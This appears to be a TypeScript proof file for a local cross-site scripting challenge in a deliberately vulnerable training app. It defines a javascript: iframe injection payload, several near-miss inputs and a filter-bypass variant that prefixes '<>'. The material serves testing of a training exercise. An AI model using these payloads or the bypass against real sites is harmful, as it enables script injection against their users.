import { type Attacker, prove } from '@fruit/challenge-kit/proof'
import { challenge } from './challenge.ts'

const PAYLOAD = '<iframe src="javascript:alert(`xss`)">'
const show = (attacker: Attacker, term: string) => attacker.emit('verifyLocalXssChallenge', term)

export const proof = prove(challenge, {
  exploit: (attacker) => show(attacker, PAYLOAD),
  nearMisses: {
    'an ordinary search': (attacker) => show(attacker, 'apple'),
    'the payload without its brackets': (attacker) => show(attacker, 'iframe src="javascript:alert(`xss`)"'),
    'the payload already escaped': (attacker) => show(attacker, '&lt;iframe src="javascript:alert(`xss`)"&gt;'),
    'the payload inside a comment, where nothing runs': (attacker) => show(attacker, `<!-- ${PAYLOAD} -->`),
    'another element': (attacker) => show(attacker, '<b>javascript:alert(`xss`)</b>'),
    'the payload sent to the search on the server, which shows nothing': (attacker) =>
      attacker.get(`/rest/products/search?q=${encodeURIComponent(PAYLOAD)}`),
  },
  bypasses: {
    'escape-the-first-bracket': (attacker) => show(attacker, `<>${PAYLOAD}`),
  },
})
